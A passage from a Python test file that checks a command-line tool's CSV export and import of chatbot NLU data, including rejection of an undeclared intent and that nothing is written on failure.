    settings: Settings, cli: Callable[..., tuple[int, str, str]], tmp_path: Path
) -> None:
    code, _, stderr = cli("export", str(tmp_path / "x.csv"))
    assert code == 2 and "pass --what nlu or knowledge" in stderr
    assert not (tmp_path / "x.csv").exists()
    bad = write_csv(tmp_path / "bad.csv", [list(NLU_COLUMNS), ["orders.yml", "nope", "hi"]])
    before = snapshot(settings)
    code, stdout, stderr = cli("import", str(bad))
    assert code == 2 and stdout == ""
    assert stderr.splitlines() == [
        "error: bad.csv row 2, column B (intent): the intent 'nope' is not in domain.yml: "
        "declare it under intents: in domain.yml first",
        "Nothing was written.",
    ]
    assert snapshot(settings) == before
